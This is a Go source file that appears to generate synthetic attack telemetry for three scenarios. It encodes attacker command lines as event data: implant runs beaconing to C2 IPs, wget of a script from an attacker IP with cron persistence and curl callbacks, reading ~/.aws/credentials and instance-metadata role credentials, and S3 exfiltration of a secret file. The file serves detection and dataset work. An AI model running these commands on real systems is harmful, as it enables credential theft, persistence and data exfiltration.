package gen

// The scenarios, as placed by default (the seeds' own dates and ids; all in
// the first organization, 5a8c4a54e11909bd290021ed, account 123456789012):
//
// seed000, 2020-02-14 from about 14:40 UTC, on b0f6bdb2-9904-11e9-b036-25972ec55a45
// (Ubuntu 18.04): scp -t /tmp/ of implants named like sliver's (EXCITED_WHILE,
// FRONT_RUN, UNUSUAL_COMB, SURROUNDING_LOCK) from an external IP, an ssh
// session running them (each connects to one C2 IP on 443), wget of nmap from
// GitHub (connections to 140.82.114.4 and 151.101.0.133, /tmp/nmap created),
// /tmp/nmap scans, a second scp of /tmp/sliver and /tmp/sliver2, then C2
// beacons every 7-22 minutes to the end of the window. On 2020-02-15 the first
// host's private IP logs into the second and third hosts of the organization,
// scp's the tools over and runs nmap and/or sliver there.
//
// seed001, 2020-09-17, on 436dd34c-f795-11ea-a752-21e3e3eb7c50 (i-08c9216f243e53fd4,
// role ec2VpcRole): ssh login of ubuntu from an external IP at 1600362902289,
// sudo su -, ls/cat of ~/.aws/credentials (no file events), curl of the
// metadata service, apt-get install awscli, aws ec2 describe-instances and its
// CloudTrail DescribeInstances (AssumedRole ec2VpcRole), ssh to the fifth host
// (i-03128a5b8b894002a, role myS3Reader) whose login at 1600362974889 comes
// from the first's private IP; there sudo, awscli, aws s3 ls (ListBuckets,
// ListObjects) and aws s3 cp s3://omg-my-cookies/secret-data.txt (GetObject).
//
// seed003, 2020-09-17 from about 21:05 UTC, on the sixth host (Ubuntu 18.04):
// ssh login from an external IP, uname -a, lscpu, ifconfig, cat /etc/passwd,
// ls -la /var/mail, wget http://IP/SCRIPT, chmod +x, crontab -l | grep, and
// crontab - (writes /var/spool/cron/crontabs/ubuntu); cron then runs the
// script every five minutes, which calls back to the attacker's IP.
//
// With --start/--days the same scenarios sit relative to that window: seed000
// on day days-3, seed001 (same time of day) and seed003 on the last day.

import (
	"math"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
	"time"
)

// Scenario names.
const (
	Seed000 = "seed000"
	Seed001 = "seed001"
	Seed003 = "seed003"
)

// AllScenarios lists the scenarios in the order they are planned.
var AllScenarios = []string{Seed000, Seed001, Seed003}

// seed001Login is the victim's login in seed 001 (2020-09-17T17:15:02.289Z).
const seed001Login = 1600362902289

// seed000Names are the implant names seen in seed 000.
var seed000Names = []string{"EXCITED_WHILE", "FRONT_RUN", "UNUSUAL_COMB", "SURROUNDING_LOCK"}

var adjectives = []string{"EXCITED", "UNUSUAL", "SURROUNDING", "FRONT", "ANGRY", "BRAVE", "CALM", "DARK", "EAGER", "FANCY", "GENTLE", "HOLLOW", "IMPORTANT", "JOLLY", "KIND", "LONELY", "MODERN", "NERVOUS", "OBEDIENT", "PROUD", "QUIET", "RAPID", "SHARP", "TIDY", "URBAN", "VAST", "WARM", "YOUNG", "ZEALOUS", "ELDEST", "GREASY", "LEGAL"}
var nouns = []string{"WHILE", "RUN", "COMB", "LOCK", "ARM", "BEACH", "CAMERA", "DESK", "ENGINE", "FIELD", "GARDEN", "HARBOR", "ISLAND", "JACKET", "KETTLE", "LADDER", "MIRROR", "NEEDLE", "ORANGE", "PILLOW", "QUARTER", "RIVER", "SADDLE", "TICKET", "UMBRELLA", "VALLEY", "WAGON", "YARD", "ZIPPER", "HOUSE", "PARK", "BOOT"}

var attackerIPs = []string{"185.220.101.47", "45.155.205.233", "193.142.146.35", "89.248.165.74", "162.243.128.199", "104.248.50.87", "159.89.174.223", "68.183.44.143", "176.111.174.26", "51.15.43.205"}
var c2IPs = []string{"45.77.65.211", "149.28.81.19", "139.59.46.154", "167.99.228.45", "134.209.82.185", "206.189.85.18"}

// placement says where scenarios sit in time.
type placement struct {
	custom   bool
	start    int64 // the custom window's start (ms)
	days     int
	seed000  int64 // the compromise day's midnight
	shift001 int64 // added to seed 001's own times
	day003   int64 // seed 003's day midnight
}

func dayMS(t time.Time) int64 { return t.UnixMilli() }

const day = 86400000

func defaultPlacement() placement {
	return placement{
		seed000: dayMS(time.Date(2020, 2, 14, 0, 0, 0, 0, time.UTC)),
		day003:  dayMS(time.Date(2020, 9, 17, 0, 0, 0, 0, time.UTC)),
	}
}

func customPlacement(start int64, days int) placement {
	last := start + int64(days-1)*day
	d000 := start + int64(max(0, days-3))*day
	return placement{custom: true, start: start, days: days, seed000: d000,
		shift001: last + seed001Login%day - seed001Login, day003: last}
}

// scen plans scenario events with its own planner (no hour bounds).
type scen struct {
	g    *planner
	r    *rand.Rand
	orgs []*org
	pl   placement
}

func (s *scen) step(scenario, step string) { s.g.lbl = &label{scenario, step} }

// withPIDs runs fn with the host's pid and session counters moved to a
// range of their own, so scenario planning does not perturb the benign
// fleet's counters.
func withPIDs(h *host, pid int32, fn func()) {
	savedPID, savedSess := h.nextPID, h.nextSess
	h.nextPID, h.nextSess = pid, savedSess+500
	fn()
	h.nextPID, h.nextSess = savedPID, savedSess
}

// planScenarios plans the selected scenarios; it returns their specs in
// time order.
func planScenarios(seed uint64, orgs []*org, names []string, pl placement) ([]spec, error) {
	g := &planner{start: math.MinInt64, end: math.MaxInt64, winEnd: math.MaxInt64}
	for _, n := range names {
		s := &scen{g: g, r: newRand(seed, 0x5ce0, uint64(len(n))*31+uint64(n[len(n)-1])), orgs: orgs, pl: pl}
		var err error
		switch n {
		case Seed000:
			err = s.seed000()
		case Seed001:
			err = s.seed001()
		case Seed003:
			err = s.seed003()
		default:
			err = errUnknownScenario(n)
		}
		if err != nil {
			return nil, err
		}
	}
	specs := g.specs
	sortSpecs(specs)
	return specs, nil
}

type errUnknownScenario string

func (e errUnknownScenario) Error() string {
	return "unknown scenario " + strconv.Quote(string(e)) + " (want " + strings.Join(AllScenarios, ", ") + " or none)"
}

// scenarioHosts is how many hosts of the first organization a scenario
// needs: its victims sit in fixed slots.
var scenarioHosts = map[string]int{Seed000: slot000C + 1, Seed001: slot001B + 1, Seed003: slot003 + 1}

type errFewHosts struct {
	scenario string
	need     int
}

func (e errFewHosts) Error() string {
	return "scenario " + e.scenario + " needs at least " + strconv.Itoa(e.need) + " hosts in the first organization"
}

func (s *scen) slot(scenario string, i int) (*host, error) {
	hosts := s.orgs[0].hosts
	if need := scenarioHosts[scenario]; len(hosts) < need {
		return nil, errFewHosts{scenario, scenarioHosts[scenario]}
	}
	return hosts[i], nil
}

// sshIn plans an inbound ssh connection and a successful login, then the
// login shell; it returns the session and the shell.
func (s *scen) sshIn(h *host, t int64, u *luser, src string) (sctx, pinfo) {
	g, r := s.g, s.r
	sport := 40000 + r.Int32N(20000)
	g.conn(h, t-350, pinfo{pid: 1010, exe: "/usr/sbin/sshd", user: uRoot}, src, sport, h.privateIP, 22, false, true)
	c := g.login(h, t, u, src, sport, true, "pts/"+strconv.Itoa(r.IntN(2)))
	sh := g.exec(h, t+410, newProc(whichBin(h, "bash"), []string{"-bash"}, u.home, u), pinfo{pid: c.sshd, exe: "/usr/sbin/sshd", start: t, user: uRoot}, c)
	return c, sh
}

// scpIn plans an scp upload: a login without a tty, scp -t DIR and the
// files it creates.
func (s *scen) scpIn(h *host, t int64, u *luser, src, dir string, files []string) {
	g, r := s.g, s.r
	sport := 40000 + r.Int32N(20000)
	g.conn(h, t-300, pinfo{pid: 1010, exe: "/usr/sbin/sshd", user: uRoot}, src, sport, h.privateIP, 22, false, true)
	c := g.login(h, t, u, src, sport, true, "")
	c.tty = ""
	sshd := pinfo{pid: c.sshd, exe: "/usr/sbin/sshd", start: t, user: uRoot}
	sh := g.exec(h, t+300, newProc(whichBin(h, "bash"), []string{"bash", "-c", "scp -t " + dir}, u.home, u), sshd, c)
	scp := g.exec(h, t+310, newProc("/usr/bin/scp", []string{"scp", "-t", dir}, u.home, u), sh, c)
	for k, f := range files {
		g.fim(h, t+600+int64(k)*900, scp, f, "create")
	}
	g.logout(h, t+700+int64(len(files))*900, u, src, c)
}

// beacon plans an implant's periodic C2 connections from t to until.
func (s *scen) beacon(h *host, t, until int64, imp pinfo, c2 string, port int32, every int64) {
	for t < until {
		s.g.conn(h, t, imp, h.privateIP, 0, c2, port, false, false)
		t += every/2 + s.r.Int64N(every)
	}
}

func (s *scen) windowEnd(t int64) int64 {
	if s.pl.custom {
		return s.pl.start + int64(s.pl.days)*day
	}
	return (t/day + 3) * day // the default window ends three days after the compromise
}

// seed000: a host compromised on Valentine's Day: scp'd implants with
// random capitalised names, wget of nmap from GitHub, nmap scans, the sliver
// implant, then the same tools on two more hosts.
func (s *scen) seed000() error {
	hA, err := s.slot(Seed000, slot000A)
	if err != nil {
		return err
	}
	hB, hC := s.orgs[0].hosts[slot000B], s.orgs[0].hosts[slot000C]
	r, g := s.r, s.g
	names := seed000Names
	if s.pl.custom {
		names = nil
		for len(names) < 4 {
			n := pick(r, adjectives) + "_" + pick(r, nouns)
			if !slices.Contains(names, n) && !slices.Contains(seed000Names, n) {
				names = append(names, n)
			}
		}
	}
	attacker := pick(r, attackerIPs)
	c2 := pick(r, c2IPs)
	t0 := s.pl.seed000 + 14*3600000 + 37*60000 + r.Int64N(600000)
	end := s.windowEnd(s.pl.seed000)
	u := uUbuntu

	withPIDs(hA, 21000+r.Int32N(3000), func() {
		s.step(Seed000, "scp upload implants")
		files := make([]string, len(names))
		for i, n := range names {
			files[i] = "/tmp/" + n
		}
		s.scpIn(hA, t0, u, attacker, "/tmp/", files)
		t := t0 + 95000
		s.step(Seed000, "attacker ssh login")
		c, sh := s.sshIn(hA, t, u, attacker)
		imps := map[string]*proc{}
		for _, n := range append(append([]string(nil), names...), "sliver", "sliver2") {
			imps[n] = newProc("/tmp/"+n, []string{"./" + n}, "/tmp", u)
		}
		run := func(t int64, n string, beacon bool) {
			s.step(Seed000, "run implant "+n)
			p := g.exec(hA, t, imps[n], sh, c)
			g.conn(hA, t+900, p, hA.privateIP, 0, c2, 443, false, false)
			if beacon {
				s.step(Seed000, "c2 beacon "+n)
				s.beacon(hA, t+600000, end, p, c2, 443, 900000)
			}
		}
		t += 21000
		run(t, names[0], true)
		t += 48000
		s.step(Seed000, "wget nmap")
		wget := g.exec(hA, t, newProc("/usr/bin/wget", []string{"wget", "https://github.com/andrew-d/static-binaries/raw/master/binaries/linux/x86_64/nmap", "-O", "/tmp/nmap"}, "/tmp", u), sh, c)
		g.conn(hA, t+180, wget, hA.privateIP, 0, "140.82.114.4", 443, false, false)
		g.conn(hA, t+820, wget, hA.privateIP, 0, "151.101.0.133", 443, false, false)
		g.fim(hA, t+1500, wget, "/tmp/nmap", "create")
		t += 37000
		run(t, names[0], false)
		t += 5200
		run(t, names[1], true)
		t += 64000
		run(t, names[2], false)
		t += 2100
		run(t, names[3], true)
		t += 31000
		nmap := func(h *host, t int64, args []string, c sctx, sh pinfo, targets []string) int64 {
			s.step(Seed000, "nmap scan")
			p := g.exec(h, t, newProc("/tmp/nmap", args, "/tmp", u), sh, c)
			for k, ip := range targets {
				for _, port := range []int32{22, 80, 443} {
					g.conn(h, t+200+int64(k)*37, p, h.privateIP, 0, ip, port, false, false)
				}
			}
			return t + 200 + int64(len(targets))*37
		}
		var targets []string
		for _, h := range s.orgs[0].hosts {
			if h != hA && len(targets) < 8 {
				targets = append(targets, h.privateIP)
			}
		}
		nmap(hA, t, []string{"/tmp/nmap"}, c, sh, nil)
		t += 9000
		run(t, names[3], false)
		t += 44000
		run(t, names[0], false)
		t += 3000
		run(t, names[1], false)
		t += 25000
		run(t, names[0], false)
		run(t+1200, names[1], false)
		s.step(Seed000, "scp upload sliver")
		s.scpIn(hA, t+60000, u, attacker, "/tmp/", []string{"/tmp/sliver", "/tmp/sliver2"})
		t += 130000
		run(t, names[3], false)
		run(t+4000, names[2], false)
		t += 61000
		run(t, "sliver", true)
		t += 32000
		run(t, names[3], false)
		t += 18000
		run(t, "sliver2", true)
		t += 47000
		t = nmap(hA, t, []string{"/tmp/nmap", "-sT", "-p", "22,80,443", hA.privateIP[:strings.LastIndexByte(hA.privateIP, '.')] + ".0/24"}, c, sh, targets)
		t += 30000
		run(t, names[0], false)
		run(t+2500, names[1], false)
		t += 36000
		run(t, names[1], false)
		s.step(Seed000, "run implant "+names[1])
		g.exec(hA, t+9000, newProc("/tmp/"+names[1], []string{}, "/tmp", u), sh, c)
		s.step(Seed000, "attacker logout")
		g.logout(hA, t+45000, u, attacker, c)
		// the operator copies tools to two more hosts from hA, a day later
		t1 := t + 22*3600000
		s.lateral000(hB, hA, t1, true, c2, end, targets)
		s.lateral000(hC, hA, t1+3*3600000+r.Int64N(3600000), false, c2, end, nil)
	})
	return nil
}

// lateral000 plans seed 000's activity on a second or third host: an scp
// upload from the first victim, then nmap and/or sliver.
func (s *scen) lateral000(h, from *host, t int64, withNmap bool, c2 string, end int64, targets []string) {
	g, r := s.g, s.r
	u := uUbuntu
	withPIDs(h, 18000+r.Int32N(4000), func() {
		files := []string{"/tmp/sliver"}
		if withNmap {
			files = append(files, "/tmp/nmap")
		}
		s.step(Seed000, "lateral scp upload")
		s.scpIn(h, t, u, from.privateIP, "/tmp/", files)
		t += 40000
		s.step(Seed000, "lateral ssh login")
		c, sh := s.sshIn(h, t, u, from.privateIP)
		t += 12000
		if withNmap {
			s.step(Seed000, "nmap scan")
			p := g.exec(h, t, newProc("/tmp/nmap", []string{"/tmp/nmap", "-sn", h.privateIP[:strings.LastIndexByte(h.privateIP, '.')] + ".0/24"}, "/tmp", u), sh, c)
			for k, ip := range targets {
				if ip != h.privateIP {
					g.conn(h, t+300+int64(k)*41, p, h.privateIP, 0, ip, 80, false, false)
				}
			}
			t += 20000
		}
		sl := newProc("/tmp/sliver", []string{"./sliver"}, "/tmp", u)
		for k := 0; k < 2; k++ {
			s.step(Seed000, "run implant sliver")
			p := g.exec(h, t, sl, sh, c)
			g.conn(h, t+700, p, h.privateIP, 0, c2, 443, false, false)
			if k == 1 {
				s.step(Seed000, "c2 beacon sliver")
				s.beacon(h, t+600000, end, p, c2, 443, 900000)
			}
			t += 30000 + r.Int64N(60000)
		}
		if withNmap {
			s.step(Seed000, "nmap scan")
			g.exec(h, t, newProc("/tmp/nmap", []string{"/tmp/nmap"}, "/tmp", u), sh, c)
		}
		s.step(Seed000, "attacker logout")
		g.logout(h, t+20000, u, from.privateIP, c)
	})
}

const (
	awscliUA = "aws-cli/1.18.69 Python/3.8.2 Linux/5.4.0-1024-aws botocore/1.16.19"
	s3Bucket = "omg-my-cookies"
)

// installAWSCLI plans `apt-get install -y awscli` run by root.
func (s *scen) installAWSCLI(h *host, t int64, root pinfo, c sctx) int64 {
	g, r := s.g, s.r
	apt := g.exec(h, t, newProc("/usr/bin/apt-get", []string{"apt-get", "install", "-y", "awscli"}, "/root", uRoot), root, c)
	m := g.exec(h, t+900, newProc("/usr/lib/apt/methods/http", []string{"/usr/lib/apt/methods/http"}, "/root", uRoot), apt, c)
	g.conn(h, t+1000, m, h.privateIP, 0, pick(r, ubuntuMirrors), 80, false, false)
	g.conn(h, t+1400, m, h.privateIP, 0, pick(r, ubuntuMirrors), 80, false, false)
	d := g.exec(h, t+9000, newProc("/usr/bin/dpkg", []string{"/usr/bin/dpkg", "--status-fd", "47", "--no-triggers", "--unpack", "--auto-deconfigure", "/var/cache/apt/archives/awscli_1.18.69-1ubuntu0.20.04.1_all.deb"}, "/root", uRoot), apt, c)
	g.fim(h, t+9800, d, "/usr/bin/aws", "create")
	g.exec(h, t+14000, newProc("/usr/bin/dpkg", []string{"/usr/bin/dpkg", "--status-fd", "47", "--configure", "--pending"}, "/root", uRoot), apt, c)
	g.exec(h, t+15500, newProc("/usr/bin/python3.8", []string{"/usr/bin/python3", "/usr/bin/py3compile", "-p", "awscli"}, "/", uRoot), apt, c)
	return t + 21000
}

// aws plans an aws cli command and its API connection.
func (s *scen) aws(h *host, t int64, root pinfo, c sctx, args []string, api string) pinfo {
	p := s.g.exec(h, t, newProc("/usr/bin/python3.8", args, "/root", uRoot), root, c)
	s.g.conn(h, t+700, p, h.privateIP, 0, api, 443, false, false)
	return p
}

// sudoRoot plans `sudo su -` and returns the root shell.
func (s *scen) sudoRoot(h *host, t int64, sh pinfo, c sctx, u *luser) pinfo {
	g := s.g
	sudo := g.exec(h, t, newProc("/usr/bin/sudo", []string{"sudo", "su", "-"}, u.home, u), sh, c)
	su := g.exec(h, t+40, newProc("/usr/bin/su", []string{"su", "-"}, u.home, uRoot), sudo, c)
	return g.exec(h, t+90, newProc("/usr/bin/bash", []string{"-bash"}, "/root", uRoot), su, c)
}

func (s *scen) ct(t int64, c *ctEv) { s.g.add(spec{t: t, kind: kCloudTrail, ct: c}) }

// seed001: stolen ssh key, sudo, credential hunting, the instance metadata
// service, awscli with the instance role, lateral ssh and S3 exfiltration.
func (s *scen) seed001() error {
	h1, err := s.slot(Seed001, slot001A)
	if err != nil {
		return err
	}
	h2 := s.orgs[0].hosts[slot001B]
	g, r := s.g, s.r
	a := s.orgs[0].acct
	u := uUbuntu
	L := seed001Login + s.pl.shift001
	attacker := pick(r, attackerIPs)
	ec2API := "54.239.28.85"
	s3IP := "52.217.47." + strconv.Itoa(10+r.IntN(200))
	nat := ipString(3, 208, 17, 41)
	withPIDs(h1, 2400+r.Int32N(400), func() {
		s.step(Seed001, "ssh login with stolen key")
		c, sh := s.sshIn(h1, L, u, attacker)
		s.step(Seed001, "sudo to root")
		root := s.sudoRoot(h1, L+6100, sh, c, u)
		s.step(Seed001, "look for aws credentials")
		g.exec(h1, L+14200, newProc("/usr/bin/ls", []string{"ls", "-la", "/home/ubuntu/.aws"}, "/root", uRoot), root, c)
		g.exec(h1, L+17900, newProc("/usr/bin/cat", []string{"cat", "/home/ubuntu/.aws/credentials"}, "/root", uRoot), root, c)
		g.exec(h1, L+22300, newProc("/usr/bin/ls", []string{"ls", "-la", "/root/.aws"}, "/root", uRoot), root, c)
		s.step(Seed001, "query instance metadata")
		for k, url := range []string{"http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/" + Seed001Role} {
			t := L + 27800 + int64(k)*5700
			p := g.exec(h1, t, newProc("/usr/bin/curl", []string{"curl", url}, "/root", uRoot), root, c)
			g.conn(h1, t+60, p, h1.privateIP, 0, "169.254.169.254", 80, false, false)
		}
		s.step(Seed001, "install awscli")
		t := s.installAWSCLI(h1, L+41000, root, c)
		s.step(Seed001, "aws ec2 describe-instances")
		p := s.aws(h1, t+1500, root, c, []string{"aws", "ec2", "describe-instances", "--region", a.region}, ec2API)
		g.conn(h1, t+1600, p, h1.privateIP, 0, "169.254.169.254", 80, false, false)
		s.step(Seed001, "cloudtrail DescribeInstances")
		s.ct(t+2700, &ctEv{acct: a, id: a.roleIdentity(Seed001Role, h1.instance), name: "DescribeInstances", source: "ec2.amazonaws.com", srcIP: h1.publicIP, ua: awscliUA, readOnly: true,
			req: []byte(`{"instancesSet":{},"filterSet":{}}`)})
		s.step(Seed001, "lateral ssh")
		t = L + 72000
		ssh := g.exec(h1, t, newProc("/usr/bin/ssh", []string{"ssh", "-i", "/tmp/.k", u.name + "@" + h2.privateIP}, "/root", uRoot), root, c)
		g.conn(h1, t+150, ssh, h1.privateIP, 0, h2.privateIP, 22, false, false)
		s.step(Seed001, "logout")
		g.logout(h1, L+318000+r.Int64N(60000), u, attacker, c)
	})
	withPIDs(h2, 3100+r.Int32N(400), func() {
		s.step(Seed001, "lateral login")
		L2 := L + 72600
		c, sh := s.sshIn(h2, L2, u, h1.privateIP)
		s.step(Seed001, "sudo to root")
		root := s.sudoRoot(h2, L2+5400, sh, c, u)
		s.step(Seed001, "install awscli")
		t := s.installAWSCLI(h2, L2+13000, root, c)
		id := a.roleIdentity(Seed001S3Role, h2.instance)
		s.step(Seed001, "aws s3 ls")
		s.aws(h2, t+2000, root, c, []string{"aws", "s3", "ls"}, s3IP)
		s.step(Seed001, "cloudtrail ListBuckets")
		s.ct(t+3100, &ctEv{acct: a, id: id, name: "ListBuckets", source: "s3.amazonaws.com", srcIP: nat, ua: "[" + awscliUA + "]", readOnly: true,
			req: reqJSON("Host", "s3.amazonaws.com"), extra: s3Extra})
		for k, b := range []string{a.bucket[0], a.bucket[2], s3Bucket} {
			tt := t + 11000 + int64(k)*8300
			s.step(Seed001, "aws s3 ls")
			s.aws(h2, tt, root, c, []string{"aws", "s3", "ls", "s3://" + b}, s3IP)
			s.step(Seed001, "cloudtrail ListObjects")
			s.ct(tt+1200, &ctEv{acct: a, id: id, name: "ListObjects", source: "s3.amazonaws.com", srcIP: nat, ua: "[" + awscliUA + "]", readOnly: true, data: true,
				req:       []byte(`{"list-type":"2","bucketName":` + string(str(nil, b)) + `,"encoding-type":"url","prefix":"","delimiter":"/","Host":` + string(str(nil, b+".s3.amazonaws.com")) + `}`),
				resources: s3Resources(a.id, b, ""), extra: s3Extra})
		}
		t += 11000 + 3*8300 + 6000
		s.step(Seed001, "aws s3 cp secret data")
		p := s.aws(h2, t, root, c, []string{"aws", "s3", "cp", "s3://" + s3Bucket + "/secret-data.txt", "secret-data-copy.txt"}, s3IP)
		s.step(Seed001, "cloudtrail GetObject")
		s.ct(t+1300, &ctEv{acct: a, id: id, name: "GetObject", source: "s3.amazonaws.com", srcIP: nat, ua: "[" + awscliUA + "]", readOnly: true, data: true,
			req: reqJSON("bucketName", s3Bucket, "Host", s3Bucket+".s3.amazonaws.com", "key", "secret-data.txt"), resources: s3Resources(a.id, s3Bucket, "secret-data.txt"), extra: s3Extra})
		s.step(Seed001, "aws s3 cp secret data")
		g.fim(h2, t+1900, p, "/root/secret-data-copy.txt", "create")
		s.step(Seed001, "logout")
		g.logout(h2, t+95000+r.Int64N(60000), u, h1.privateIP, c)
	})
	return nil
}

// seed003: an external ssh login, reconnaissance, a downloaded script and
// crontab persistence, then the script's runs from cron.
func (s *scen) seed003() error {
	h, err := s.slot(Seed003, slot003)
	if err != nil {
		return err
	}
	g, r := s.g, s.r
	u := uUbuntu
	attacker := pick(r, attackerIPs[5:])
	script := pick(r, []string{"x.sh", "bot.sh", "update.sh", "kworker.sh"})
	t := s.pl.day003 + 21*3600000 + 4*60000 + r.Int64N(600000)
	end := s.windowEnd(s.pl.day003)
	if !s.pl.custom {
		end = s.pl.day003 + day
	}
	withPIDs(h, 14000+r.Int32N(3000), func() {
		s.step(Seed003, "external ssh login")
		c, sh := s.sshIn(h, t, u, attacker)
		cmds := []struct {
			step string
			args []string
		}{
			{"uname -a", []string{"uname", "-a"}},
			{"lscpu", []string{"lscpu"}},
			{"ifconfig", []string{"ifconfig"}},
			{"cat /etc/passwd", []string{"cat", "/etc/passwd"}},
			{"ls mail spool", []string{"ls", "-la", "/var/mail"}},
			{"wget script", []string{"wget", "http://" + attacker + "/" + script}},
			{"chmod script", []string{"chmod", "+x", script}},
			{"crontab -l", []string{"crontab", "-l"}},
			{"grep crontab", []string{"grep", script}},
			{"crontab persistence", []string{"crontab", "-"}},
		}
		var prev pinfo
		for _, cm := range cmds {
			t += 4000 + r.Int64N(9000)
			if cm.step == "grep crontab" {
				t = prev.start + 2
			}
			s.step(Seed003, cm.step)
			p := g.exec(h, t, newProc(whichBin(h, cm.args[0]), cm.args, u.home, u), sh, c)
			switch cm.step {
			case "wget script":
				g.conn(h, t+120, p, h.privateIP, 0, attacker, 80, false, false)
				g.fim(h, t+600, p, u.home+"/"+script, "create")
			case "chmod script":
				g.fim(h, t+5, p, u.home+"/"+script, "modify")
			case "crontab persistence":
				g.fim(h, t+40, p, "/var/spool/cron/crontabs/"+u.name, "create")
			}
			prev = p
		}
		s.step(Seed003, "logout")
		g.logout(h, t+30000+r.Int64N(30000), u, attacker, c)
		// cron runs the script every five minutes from the next slot
		shP := newProc(h.info.shell, []string{"/bin/sh", "-c", u.home + "/" + script}, u.home, u)
		bash := newProc("/bin/bash", []string{"/bin/bash", u.home + "/" + script}, u.home, u)
		curl := newProc("/usr/bin/curl", []string{"curl", "-s", "http://" + attacker + "/c"}, u.home, u)
		for m := (t/300000 + 1) * 300000; m < end; m += 300000 {
			s.step(Seed003, "cron persistence run")
			cc := h.newSession(u)
			child := pinfo{pid: h.newPID(1), exe: h.info.cron, start: m, user: uRoot}
			p := g.exec(h, m+3, shP, child, cc)
			b := g.exec(h, m+6, bash, p, cc)
			q := g.exec(h, m+20, curl, b, cc)
			g.conn(h, m+45, q, h.privateIP, 0, attacker, 80, false, false)
		}
	})
	return nil
}
